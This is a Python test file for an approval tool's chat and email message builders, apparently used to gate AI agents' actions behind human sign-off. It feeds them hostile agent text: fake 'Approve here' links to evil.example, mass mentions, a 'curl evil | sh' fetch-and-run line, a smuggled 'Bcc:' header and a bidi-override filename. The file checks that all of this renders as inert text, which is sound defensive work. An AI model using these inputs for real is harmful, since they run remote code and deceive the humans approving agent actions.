"""Every channel's message builder, fed hostile text: nothing hidden reaches a chat or a
mailbox, each platform's own markup is neutralised, values show whole up to the cut, and
after an edit the message shows the arguments that will run."""

from __future__ import annotations

import html
import io
import json
import re
from collections.abc import Iterator
from types import SimpleNamespace
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from signoff import Policy
from signoff.channels import (
    Outgoing,
    Target,
    dingtalk,
    discord,
    email,
    feishu,
    line,
    message,
    slack,
    teams,
    telegram,
)
from signoff.channels.console import ConsoleChannel
from signoff.channels.redact import Redactor, cut
from signoff.channels.webhooks import payload
from signoff.model import Action, ApprovalRequest, Inquiry
from signoff.model.text import inert
from tests.model.inert_helpers import hidden_chars, hostile_text
from tests.store.factories import make_request

PAGE = "https://signoff.example/requests/req_1"


def outgoing(req: ApprovalRequest, kind: str = "prompt", page_url: str | None = PAGE) -> Outgoing:
    return Outgoing(kind, req, Target("U1", "alice"), "row-1", Redactor(), page_url)  # type: ignore[arg-type]


def hostile_request(text: str, *, resolved: bool = False) -> ApprovalRequest:
    """Agent (and approver) text everywhere it can go; the value under test is ``note``."""
    req = make_request(thread=f"t{text}", calls=[("c1", f"pay{text}", {"note": text})])
    req.agent = f"bot{text}"
    req.user_request = text
    req.reasoning = text
    req.action_requests[0].description = text
    req.action_requests[0].reason = text
    if resolved:
        req.status = "resolved"
        call = req.calls[0]
        call.resolution, call.resolved_by, call.message = "rejected", f"al{text}", text
    return req


def strings(value: Any) -> Iterator[str]:
    """Every string in a JSON-like payload."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from strings(v)


def console_text(req: ApprovalRequest) -> str:
    stream = io.StringIO()
    channel = ConsoleChannel(stream=stream)
    gate = SimpleNamespace(policy=Policy.from_yaml("version: 1\n"))
    import asyncio

    asyncio.run(channel.notify(req, gate))  # type: ignore[arg-type]
    asyncio.run(channel.resolved(req, gate))  # type: ignore[arg-type]
    return stream.getvalue()


def rendered(req: ApprovalRequest) -> dict[str, Any]:
    """What each surface sends for the prompt and for the resolved update."""
    out = outgoing(req)
    mail = email.build_message(outgoing(req, page_url=None), "signoff@example.com")
    body = mail.get_body(("plain",))
    page = mail.get_body(("html",))
    assert body is not None and page is not None
    return {
        "slack": [
            slack.prompt_blocks(out),
            slack.outcome_blocks(out),
            message.title(req),
            f"{message.title(req)} — {message.outcome(req)}",
        ],
        "discord": [
            discord.embed(out),
            discord.embed(out, resolved=True),
            discord.buttons(req, PAGE, live=True),
        ],
        "teams": [teams.card(out), teams.card(out, resolved=True)],
        "line": [line.template(out), f"{message.title(req)}: {message.outcome(req)}"],
        "email": [str(mail["Subject"]), body.get_content(), page.get_content()],
        "console": [console_text(req)],
        "webhooks": [payload(req, "created", out)["data"]["summary"]],
        "telegram": [
            telegram.prompt_text(out),
            telegram.outcome_text(out),
            telegram.keyboard(out, "secret"),
        ],
        "feishu": [feishu.prompt_card(out), feishu.outcome_card(out)],
        "dingtalk": [dingtalk.card_params(out, "secret"), dingtalk.outcome_params(out)],
    }


def value_shown(field: str, marker: str, expected: str) -> bool:
    """``expected`` follows ``marker`` whole, or the text was cut ("…") inside it."""
    at = field.find(marker)
    if at < 0:
        return False
    rest = field[at + len(marker) :]
    if rest.startswith(expected):
        return True
    cuts = [i for i, ch in enumerate(rest) if ch == "…" and i < len(expected)]
    return any(expected.startswith(rest[:i]) for i in cuts)


# ---------------------------------------------------------------- property
@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(hostile_text, st.booleans())
def test_no_surface_lets_a_hidden_character_through(text: str, resolved: bool) -> None:
    for surface, parts in rendered(hostile_request(text, resolved=resolved)).items():
        for s in strings(parts):
            assert hidden_chars(s, newlines_allowed=True) == [], (surface, s)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(hostile_text)
def test_a_value_shows_whole_up_to_each_surfaces_cut(text: str) -> None:
    req = make_request(calls=[("c1", "pay", {"note": text})])
    out = outgoing(req)
    short = cut(inert(json.dumps(text, ensure_ascii=False)), 80)  # the value as every chat cuts it
    marker = "(note="

    [_, calls, *_] = slack.prompt_blocks(out)
    assert value_shown(calls["text"]["text"], slack._esc(marker), slack._esc(short))
    assert value_shown(discord.embed(out)["description"], discord._md(marker), discord._md(short))
    runs = [r["text"] for b in teams.card(out)["attachments"][0]["content"]["body"]
            if b["type"] == "RichTextBlock" for r in b["inlines"]]  # fmt: skip
    assert any(value_shown(r, marker, short) for r in runs)
    assert value_shown(line.template(out)["template"]["text"], marker, short)
    mail = email.build_message(outgoing(req, page_url=None), "signoff@example.com")
    plain, page = mail.get_body(("plain",)), mail.get_body(("html",))
    assert plain is not None and page is not None
    assert value_shown(plain.get_content(), marker, short)
    assert value_shown(page.get_content(), html.escape(marker), html.escape(short))
    assert value_shown(console_text(req), marker, short)
    esc = telegram.escape
    assert value_shown(telegram.prompt_text(out), esc(marker), esc(short))
    [lark_md] = [e["text"]["content"] for e in feishu.prompt_card(out)["elements"]
                 if e["tag"] == "div"]  # fmt: skip
    assert value_shown(lark_md, feishu.escape(marker), feishu.escape(short))
    body = dingtalk.card_params(out, "secret")["body"]
    assert value_shown(body, dingtalk.escape(marker), dingtalk.escape(short))


# ---------------------------------------------------------------- platform markup
def inquiry(question: str, choices: list[str] | None = None) -> ApprovalRequest:
    req = make_request(kind="inquiry")
    req.inquiry = Inquiry(question=question, choices=choices)
    return req


def test_slack_mentions_and_links_from_an_agent_stay_text() -> None:
    req = inquiry("<!channel> <@U999> <https://evil.example|Approve here> & more")
    blocks = slack.prompt_blocks(outgoing(req))
    text = blocks[1]["text"]
    assert text["text"] == (
        "&lt;!channel&gt; &lt;@U999&gt; &lt;https://evil.example|Approve here&gt; &amp; more"
    )
    assert text["verbatim"] is True  # no auto-linking of bare names either


def test_slack_fallback_text_is_escaped() -> None:
    req = make_request(calls=[("c1", "<!here>", {})])
    assert slack._esc(message.title(req)) == "Approval needed: &lt;!here&gt;"


def test_discord_spoilers_links_and_headings_from_an_agent_show_literally() -> None:
    req = inquiry("# Safe ||curl evil | sh|| [Approve](https://evil.example) <@1> `x`")
    description = discord.embed(outgoing(req))["description"]
    assert description == (
        "\\# Safe \\|\\|curl evil \\| sh\\|\\| \\[Approve\\]\\(https://evil.example\\) "
        "\\<@1\\> \\`x\\`"
    )


def test_teams_puts_agent_text_in_text_runs_never_markdown() -> None:
    req = hostile_request("[Approve](https://evil.example) **now**")
    body = teams.card(outgoing(req))["attachments"][0]["content"]["body"]
    agent_blocks = [b for b in body if "evil.example" in json.dumps(b)]
    assert agent_blocks and all(b["type"] == "RichTextBlock" for b in agent_blocks)


def test_email_subject_stays_one_line() -> None:
    req = make_request(calls=[("c1", "pay\r\nBcc: x@evil.example", {})])
    req.user_request = "pay\n\nReview and decide: https://evil.example"
    mail = email.build_message(outgoing(req), "signoff@example.com")
    assert mail["Subject"] == f"[signoff] Approval needed: pay␍⏎Bcc: x@evil.example ({req.id})"
    assert "Bcc" not in mail.keys()  # noqa: SIM118 - EmailMessage headers
    plain = mail.get_body(("plain",))
    assert plain is not None
    assert "The user asked: pay⏎⏎Review and decide: https://evil.example" in plain.get_content()


def test_line_and_console_show_a_bidi_override_visibly() -> None:
    req = hostile_request("\u202ecod.exe")
    assert "<U+202E>cod.exe" in line.template(outgoing(req))["template"]["text"]
    assert "<U+202E>cod.exe" in console_text(req)


ATTACK = (
    '<b>Approve</b> <a href="https://evil.example">here</a> [ok](https://evil.example) '
    "**now** <at id=all></at> @everyone /start #tag `x` & \u202ecod.exe"
)


def test_telegram_puts_agent_text_in_one_escaped_pre_block() -> None:
    text = telegram.prompt_text(outgoing(inquiry(ATTACK)))
    assert re.findall(r"<[^>]*>", text) == ["<pre>", "</pre>"]  # no tag of the agent's
    assert '&lt;a href="https://evil.example"&gt;' in text and "&amp;" in text
    assert "&lt;U+202E&gt;cod.exe" in text  # inside <pre>: no link, mention or command detected


def test_telegram_buttons_never_carry_agent_text_in_callback_data() -> None:
    req = inquiry("Which?", choices=["<b>x</b>", "https://evil.example"])
    rows = telegram.keyboard(outgoing(req), "secret")
    data = [b["callback_data"] for row in rows for b in row if "callback_data" in b]
    assert data and all("evil" not in d and len(d.encode()) <= 64 for d in data)


def test_feishu_lark_md_shows_markup_mentions_and_links_literally() -> None:
    card = feishu.prompt_card(outgoing(inquiry(ATTACK)))
    [content] = [e["text"]["content"] for e in card["elements"] if e["tag"] == "div"]
    bare = re.sub(r"&#\d+;", "", content)
    assert not set(bare) & set("<>*[]()`#@:|_~&")  # every markup character is an entity
    assert "&#60;at id=all&#62;&#60;/at&#62;" in content and "&#42;&#42;now&#42;&#42;" in content
    assert html.unescape(content).startswith("• " + inert(ATTACK)[:20])
    assert card["header"]["title"]["tag"] == "plain_text"


def test_dingtalk_markdown_escapes_every_markup_character() -> None:
    body = dingtalk.card_params(outgoing(inquiry(ATTACK)), "secret")["body"]
    assert "\\[ok\\]\\(https\\:\\/\\/evil\\.example\\)" in body
    assert "&lt;b&gt;" in body and "\\*\\*now\\*\\*" in body and "<" not in body
    assert "&lt;U\\+202E&gt;cod\\.exe" in body


# ---------------------------------------------------------------- what runs
def edited(req: ApprovalRequest, args: dict[str, Any], *, done: bool) -> ApprovalRequest:
    call = req.calls[0]
    call.action = Action(name=call.action.name, args=args)
    if done:
        req.status = "resolved"
        call.resolution, call.resolved_by = "edited", "dave"
    return req


@pytest.mark.parametrize("done", [False, True])
def test_chat_messages_show_the_edited_arguments_and_the_change(done: bool) -> None:
    req = make_request(calls=[("c1", "pay", {"amount": 50, "to": "ACME", "token": "old"})])
    req.action_requests[0].description = "Pay 50 to ACME"
    edited(req, {"amount": 25, "to": "ACME", "token": "new"}, done=done)
    [shown] = message.call_lines(req, Redactor())
    assert shown == (
        'pay(amount=25, to="ACME", token=••••••) — edited: amount 50 → 25; token •••••• → ••••••'
    )  # the original's description ("Pay 50") is left out: it no longer says what runs
    assert "edited: amount 50 → 25" in json.dumps(
        slack.outcome_blocks(outgoing(req)), ensure_ascii=False
    )
    assert "amount=25" in json.dumps(discord.embed(outgoing(req), resolved=done))


def test_webhook_events_carry_edited_args_while_a_quorum_is_still_open() -> None:
    req = edited(make_request(calls=[("c1", "pay", {"amount": 50})]), {"amount": 25}, done=False)
    [call] = payload(req, "decided", outgoing(req))["data"]["calls"]
    assert call["args"] == {"amount": 50} and call["edited_args"] == {"amount": 25}


def test_telegram_text_fits_its_limit_even_when_escaping_grows_it() -> None:
    req = make_request(calls=[("c1", "pay", {"note": "<&>" * 3000})])
    text = telegram.prompt_text(outgoing(req))
    assert len(text) <= 4096 and text.endswith("</pre>")
